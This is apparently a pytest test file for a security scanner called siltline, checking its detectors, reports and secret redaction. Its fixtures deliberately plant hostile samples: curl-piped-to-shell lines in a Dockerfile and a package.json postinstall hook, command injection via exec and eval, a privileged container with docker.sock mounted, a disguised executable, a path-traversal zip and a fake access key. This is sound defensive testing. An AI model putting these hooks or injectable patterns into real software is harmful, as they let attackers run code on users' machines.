"""Scans of small projects, end to end, with the command line and all reports."""

import json

import pytest
from pyspark.sql import functions as F

from siltline import cli
from siltline.functions import javascript
from siltline.operators import detect
from siltline.plans import reports
from siltline.plans.scan import Config, findings_of, register, REGISTRY, scan
from siltline.sources import history, manifests, tree
from siltline.sources.signatures import parse_matches


def write(root, files):
    for name, body in files.items():
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(body if isinstance(body, bytes) else body.encode())
    return str(root)


KEY = "AKIA" + "QZ7PLMXN42RTVWKB"


def rules(result):
    return sorted((r["rule_id"], r["file"], r["line"]) for r in result.findings.select("rule_id", "file", "line").collect())


def test_clean_project(spark, tmp_path):
    root = write(tmp_path, {"package.json": '{"name": "a", "scripts": {"build": "tsc"}}', "src/app.ts": "const a = await fetch('/api');\nexport default a;\n", ".env.example": "A=1\n"})
    result = scan(spark, root)
    assert rules(result) == []
    assert cli.main([root, "--ci", "--quiet"], spark) == 0


def test_vulnerable_project(spark, tmp_path):
    root = write(tmp_path, {
        "runner.ts": "import { exec } from 'child_process';\n\nexport function run(name: string) {\n  // list\n  exec('ls ' + name);\n}\n\nexport function calc(code: string) {\n  // evaluate\n  return eval(code);\n}\n",
        "Dockerfile": "FROM base:1\nRUN a\nRUN b\nRUN curl http://h.invalid/a | bash\nCMD x\n", "compose.yml": "services:\n  a:\n    privileged: true\n    volumes:\n      - /var/run/docker.sock:/x\n",
        "key.py": f"k = '{KEY}'\n", "node_modules/x.py": "os.system(a)\n", ".env": "A=1\n", "big.js": "x" * 100, "evil.png": b"MZ" + b"\0" * 50,
        "package.json": '{"scripts": {"postinstall": "curl http://h.invalid | sh"}}',
    })
    result = scan(spark, root)
    found = rules(result)
    for want in [("SEC-001", "runner.ts", 5), ("SEC-002", "runner.ts", 10), ("MAL-002", "Dockerfile", 4), ("CONFIG-001", "Dockerfile", 1), ("CONFIG-002", "compose.yml", 3), ("CONFIG-003", "compose.yml", 5), ("SECRET-001", "key.py", 1), ("CONFIG-007", ".env", None), ("MAL-005", "evil.png", None), ("DEP-002", "package.json", None), ("SUSP-004", "package.json", None)]:
        assert want in found, want
    assert not any(f.startswith("node_modules") for _, f, _ in found)
    shown = [r["redacted_evidence"] for r in result.findings.collect()]
    assert not any(KEY in s for s in shown if s)
    assert cli.main([root, "--fail-on", "high", "--quiet"], spark) == 1
    report = json.loads(reports.json_report(result))
    assert report["risk"]["grade"] == "F" and len(report["findings"]) == len(found)
    sarif = json.loads(reports.sarif_report(result))
    assert sarif["version"] == "2.1.0" and len(sarif["runs"][0]["results"]) == len(found)
    reports.write_baseline(result, str(tmp_path / "base"))
    again = scan(spark, root, Config(ignore=("base/",)), spark.read.json(str(tmp_path / "base")))
    assert rules(again) == []


def test_html_is_escaped(spark, tmp_path):
    root = write(tmp_path, {"a.py": "eval('</script><script>alert(1)</script>')\n"})
    page = reports.html_report(scan(spark, root))
    assert "<script>alert" not in page and "&lt;script&gt;" in page


def test_command_line(tmp_path, spark, capsys):
    assert cli.main(["scan", str(tmp_path / "none")]) == 2
    assert cli.main([str(tmp_path), "--baseline", str(tmp_path / "no")]) == 2
    assert cli.main(["doctor"]) in (0, 1)
    assert len(cli.doctor()) == 12
    write(tmp_path, {"siltline.config.json": '{"scanners": {"sast": false}, "failOn": "low"}', "a.py": "eval(x)\n"})
    assert cli.main([str(tmp_path), "--ci", "--json", "-o", str(tmp_path / "out.json")], spark) == 0
    assert json.loads((tmp_path / "out.json").read_text())["findings"] == []


def test_config_precedence():
    assert Config(full=True).enabled("permissions") and not Config(full=True, no_deps=True).enabled("dependencies")
    assert Config(secrets=True).enabled("git") and not Config(secrets=True).enabled("permissions")
    assert not Config(disabled=("sast",)).enabled("sast") and Config(disabled=("permissions",)).enabled("permissions")


def test_failing_detector_is_isolated(spark, tmp_path):
    def broken(files, lines, config):
        raise RuntimeError("no")

    files = tree.read_tree(spark, write(tmp_path, {"a.py": "eval(x)\n"}))
    found, runs = findings_of(files, registry=REGISTRY | {"secrets": broken})
    assert {"scanner": "secrets", "status": "error", "message": "no"} in runs and found.count() == 1
    before = dict(REGISTRY)
    register("own", lambda files, lines, config: detect.disguised_files(files))
    assert "own" in REGISTRY
    REGISTRY.clear()
    REGISTRY.update(before)


def test_walk(spark, tmp_path):
    root = write(tmp_path, {"a.txt": "1", "sub/b.txt": "22", "sub/deep/c.txt": "333", "big.bin": "x" * 50, ".hidden": "h", ".gitignore": "*.log\n# c\n", "x.log": "l"})
    (tmp_path / "link.txt").symlink_to(tmp_path / "a.txt")
    names = {r[1] for r in tree.walk(root, limits=tree.Limits(file_bytes=40, depth=1))}
    assert names == {"a.txt", "sub/b.txt", ".hidden", ".gitignore"}
    assert len(list(tree.walk(root, limits=tree.Limits(files=2)))) == 2
    assert tree.read_tree(spark, str(tmp_path / "missing")).count() == 0


def test_scripts():
    assert [f[:3] for f in javascript.analyse("const a = req.query.x; exec(a)")] == [("SEC-001", "CRITICAL", 98)]
    assert javascript.analyse("/eval(x)/.test(y); // eval(z)\n'eval(q)'") == []
    assert javascript.analyse("pattern.exec(text)") == []
    assert javascript.analyse("") == [] and javascript.analyse("`unclosed ${") == []


def test_history(spark):
    log = f"commit 0123456789\n+++ b/x.py\n+k = '{KEY}'\n-old = '{KEY}'\n context\n"
    rows = history.history_secrets(history.added_lines(history.log_frame(spark, log))).collect()
    assert [(r["commit"], r["file"], r["line"], r["value"]) for r in rows] == [("01234567", "x.py", 3, KEY)]
    assert history.log_frame(spark, None).count() == 0
    assert history.git_log("/nonexistent") is None


def test_manifest_edges(spark):
    df = spark.createDataFrame([("package.json", None), ("package.json", "[]"), ("package.json", "{"), ("composer.lock", "{}"), ("package-lock.json", "{}"), ("yarn.lock", "")], "rel_path string, text string")
    assert manifests.dependencies(df).count() == 0
    assert parse_matches(spark, "Rule a b.txt\n\nnoise\n").collect() == [("Rule", "a b.txt")]


def test_detectors_take_nulls_and_clashing_columns(spark):
    df = spark.createDataFrame([(None, None, None), ("a.py", "python", ""), ("b.py", "python", "os.system(x)\r\n" * 2)], "rel_path string, language string, text string")
    df = df.withColumns({c: F.lit("z") for c in ("line", "rule_id", "_t", "_hits", "seq")})
    assert sorted(r["line"] for r in detect.line_findings(detect.to_lines(df)).collect()) == [1, 2]
    assert detect.secret_findings(detect.to_lines(df)).count() == 0
    assert detect.chain_findings(df).count() == 0 and detect.large_literals(df).count() == 0


@pytest.mark.parametrize("mode, path, want", [(0o666, ".env", ["PERM-001"]), (0o777, "a.sh", ["PERM-002"]), (0o666, ".env.example", []), (0o644, "id_rsa", []), (0o666, "a.txt", [])])
def test_permissions(spark, mode, path, want):
    df = spark.createDataFrame([(path, mode)], "rel_path string, mode int")
    assert [r["rule_id"] for r in detect.writable_files(df).collect()] == want


def test_stream_equals_batch(spark, tmp_path):
    from siltline.streaming import detection

    rows = spark.createDataFrame([("a.py", "python", "eval(x)\nos.system(y)"), ("b.go", "go", "x := 1")], "rel_path string, language string, text string")
    rows.write.parquet(str(tmp_path / "in"))
    stream = detection.stream_line_findings(spark.readStream.schema(rows.schema).parquet(str(tmp_path / "in")))
    query = detection.append_findings(stream.select("rel_path", "rule_id", "line"), str(tmp_path / "out"), str(tmp_path / "marks"))
    query.processAllAvailable()
    query.stop()
    assert {tuple(r) for r in spark.read.parquet(str(tmp_path / "out")).collect()} == {("a.py", "SEC-002", 1), ("a.py", "SEC-001", 2)}


def test_advisories_threats_and_history(spark, tmp_path):
    import hashlib
    import subprocess

    root = write(tmp_path, {"requirements.txt": "lib==1.2\nother==3.0\n", "bad.bin": b"payload"})
    for command in (["init", "-q"], ["add", "-A"], ["-c", "user.name=a", "-c", "user.email=a@b", "commit", "-qm", "x"]):
        subprocess.run(["git", "-C", root, *command], check=True)
    (tmp_path / "k.py").write_text(f"k = '{KEY}'\n")
    for command in (["add", "-A"], ["-c", "user.name=a", "-c", "user.email=a@b", "commit", "-qm", "y"], ["rm", "-q", "k.py"], ["-c", "user.name=a", "-c", "user.email=a@b", "commit", "-qm", "z"]):
        subprocess.run(["git", "-C", root, *command], check=True)
    advisories = spark.createDataFrame([("PyPI", "LIB", "1.2", "GHSA-1", "s", ["CVE-1"], ["9.8"], [["1.3"]])], "ecosystem string, name string, version string, advisory_id string, summary string, aliases array<string>, scores array<string>, fixed array<array<string>>")
    threats = spark.createDataFrame([(hashlib.sha256(b"payload").hexdigest().upper(), "made up")], "sha256 string, name string")
    result = scan(spark, root, Config(deep=True), advisories=advisories, threats=threats)
    rows = {(r["rule_id"], r["severity"], r["category"], r["classification"]) for r in result.findings.collect()}
    assert ("GHSA-1", "CRITICAL", "Dependencies", "needs_review") in rows
    assert ("MAL-006", "CRITICAL", "Malware", "confirmed_malware") in rows
    assert ("SECRET-001", "HIGH", "Git History", "needs_review") in rows


def test_no_sink_shows_a_secret(spark, tmp_path):
    import subprocess

    password = "Quiet" + "River94!"
    root = write(tmp_path / "tree", {"key.py": f"k = '{KEY}'\n", "db.yml": f"url: postgres://u:{password}@h.invalid/x\n", "run.js": f"exec('tool --key {KEY} ' + name)\n", "a.php": f"<?php system(\"x password='{password}'\");\n", "conf.py": f"eval('password = \"{password}\"')\n"})
    for command in (["init", "-q"], ["add", "-A"], ["-c", "user.name=a", "-c", "user.email=a@b", "commit", "-qm", "x"]):
        subprocess.run(["git", "-C", root, *command], check=True)
    result = scan(spark, root, Config(deep=True))
    assert {"secrets", "git", "sast"} <= {r["scanner"] for r in result.findings.select("scanner").distinct().collect()}
    reports.write_table(result, str(tmp_path / "table"))
    reports.write_rows(result, str(tmp_path / "rows"))
    reports.write_baseline(result, str(tmp_path / "base"))
    texts = [reports.json_report(result), reports.sarif_report(result), reports.html_report(result), reports.terminal_report(result)]
    texts += [p.read_text() for folder in ("rows", "base") for p in (tmp_path / folder).glob("*.json")]
    texts += [str(spark.read.parquet(str(tmp_path / "table")).collect()), str(reports.fix_list(result).collect())]
    assert len(texts) >= 8
    for text in texts:
        assert KEY not in text and password not in text


def test_documents_show_a_page(spark, tmp_path, monkeypatch):
    root = write(tmp_path, {"a.py": "eval(x)\n" * 7})
    result = scan(spark, root)
    monkeypatch.setattr(reports, "PAGE", 3)
    report = json.loads(reports.json_report(result))
    assert len(report["findings"]) == 3 and report["page"] == {"total": 7, "shown": 3}
    assert json.loads(reports.sarif_report(result))["runs"][0]["properties"] == {"total": 7, "shown": 3}
    page = reports.html_report(result)
    assert "<option>CRITICAL</option>" in page and page.count("data-severity") == 3
    text = reports.terminal_report(result)
    assert "3 of 7 findings shown" in text and "coverage" in text and "sandbox" in text
    reports.write_rows(result, str(tmp_path / "rows"))
    assert spark.read.json(str(tmp_path / "rows")).count() == 7


def test_error_while_running_is_isolated(spark, tmp_path):
    def broken(files, lines, config):
        return detect.disguised_files(files.withColumn("is_disguised", F.expr("raise_error('while running') is null")))

    root = write(tmp_path, {"a.py": "eval(x)\n"})
    before = dict(REGISTRY)
    try:
        register("late", broken)
        result = scan(spark, root)
    finally:
        REGISTRY.clear()
        REGISTRY.update(before)
    status = {r["scanner"]: r["status"] for r in result.runs}
    assert status["late"] == "error" and status["line rules"] == "completed" and result.findings.count() == 1


def test_cuts_are_reported(spark, tmp_path):
    root = write(tmp_path, {"a.txt": "1", "b.txt": "2" * 100, "sub/deep/c.txt": "3"})
    coverage = tree.Coverage()
    assert len(list(tree.walk(root, limits=tree.Limits(file_bytes=50, depth=1), coverage=coverage))) == 1
    run = coverage.run()
    assert run["status"] == "incomplete" and (coverage.too_large, coverage.too_deep) == (1, 1)
    coverage = tree.Coverage()
    list(tree.walk(root, limits=tree.Limits(files=2), coverage=coverage))
    assert coverage.stopped == "files" and coverage.run()["files"] == 2
    result = scan(spark, root, Config(limits=tree.Limits(files=2)))
    assert result.runs[0]["status"] == "incomplete"
    assert scan(spark, root).runs[0] == {"scanner": "walk", "status": "completed", "files": 3, "bytes": 102}
    assert history.read_log("/nonexistent")[0]["status"] == "skipped"


def test_command_line_tables(spark, tmp_path, capsys, monkeypatch):
    import hashlib

    root = write(tmp_path / "tree", {"requirements.txt": "lib==1.2\n", "bad.bin": b"payload"})
    spark.createDataFrame([("PyPI", "lib", "1.2", "GHSA-1", "s", ["CVE-1"], ["9.8"], [["1.3"]])], "ecosystem string, name string, version string, advisory_id string, summary string, aliases array<string>, scores array<string>, fixed array<array<string>>").write.parquet(str(tmp_path / "adv"))
    spark.createDataFrame([(hashlib.sha256(b"payload").hexdigest(), "made up")], "sha256 string, name string").write.json(str(tmp_path / "threats.json"))
    wanted = [root, "--json", "--advisories", str(tmp_path / "adv"), "--threats", str(tmp_path / "threats.json"), "--sandbox", "--clamav"]
    assert cli.main(wanted, spark) == 0
    report = json.loads(capsys.readouterr().out)
    assert {"GHSA-1", "MAL-006"} <= {f["rule"] for f in report["findings"]}
    assert {"sandbox", "clamav", "yara"} <= {r["scanner"] for r in report["scanners"] if r["status"] == "unavailable"}
    assert cli.main([*wanted, "--offline"], spark) == 0
    assert "GHSA-1" not in {f["rule"] for f in json.loads(capsys.readouterr().out)["findings"]}
    assert cli.main([root, "--threats", str(tmp_path / "none")], spark) == 2
    assert dict(cli.doctor(str(tmp_path), str(tmp_path / "adv")))["advisory table"] == "ok" and dict(cli.doctor("/nonexistent"))["checkpoint folder"] == "error"
    monkeypatch.setenv("CODESPACES", "true")
    assert cli.in_container()


def test_signature_matches_are_findings(spark, tmp_path, monkeypatch):
    from siltline.plans import scan as plans

    root = write(tmp_path, {"a.bin": "x"})
    monkeypatch.setattr(plans, "yara_matches", lambda s, rules, target: ("completed", parse_matches(s, f"Odd_Rule {target}/a.bin\n", target)))
    result = plans.scan(spark, root, Config(yara_rules="r.yar"))
    row = result.findings.where("scanner = 'yara'").first()
    assert (row["rule_id"], row["file"], row["severity"], row["confidence"]) == ("MAL-001", "a.bin", "HIGH", 90)
    monkeypatch.setattr(plans, "yara_matches", lambda s, rules, target: ("unavailable", None))
    assert {"scanner": "yara", "status": "unavailable"} in plans.scan(spark, root, Config(yara_rules="r.yar")).runs


def test_archives_against_the_library(spark):
    import io
    import zipfile

    rows = []
    for i, names in enumerate((["a.txt"], ["../up.txt", "b"], ["x.exe", "in.zip"], [])):
        data = io.BytesIO()
        with zipfile.ZipFile(data, "w", zipfile.ZIP_DEFLATED) as z:
            for n in names:
                z.writestr(n, b"0" * (30_000_000 if names == ["a.txt"] else 10))
        rows.append((f"f{i}.zip", bytearray(data.getvalue())))
        with zipfile.ZipFile(data) as z:
            from siltline.functions.binary import inspect_zip

            assert inspect_zip(data.getvalue())[:3] == (True, len(z.infolist()), sum(x.file_size for x in z.infolist()))
    df = spark.createDataFrame([*rows, ("n", None), ("e", bytearray(b"")), ("p", bytearray(b"PK"))], "rel_path string, content binary")
    assert sorted((r["rel_path"], r["rule_id"]) for r in detect.archive_findings(df).collect()) == [("f0.zip", "MAL-005"), ("f1.zip", "SEC-005")]
